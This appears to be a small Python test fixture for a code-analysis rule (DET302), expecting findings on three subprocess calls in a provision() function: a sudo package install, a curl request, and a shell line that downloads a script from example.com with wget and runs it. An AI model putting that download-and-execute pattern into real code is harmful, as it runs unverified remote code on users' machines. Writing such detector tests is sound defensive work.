# expect: DET302@6 DET302@7 DET302@8
import subprocess


def provision():
    subprocess.run(["sudo", "apt-get", "install", "-y", "jq"], check=True)
    subprocess.run(["bash", "-lc", "timeout 5 curl -fsS https://example.com"])
    subprocess.run("export X=1; $(wget -qO- https://example.com/run.sh)", shell=True)
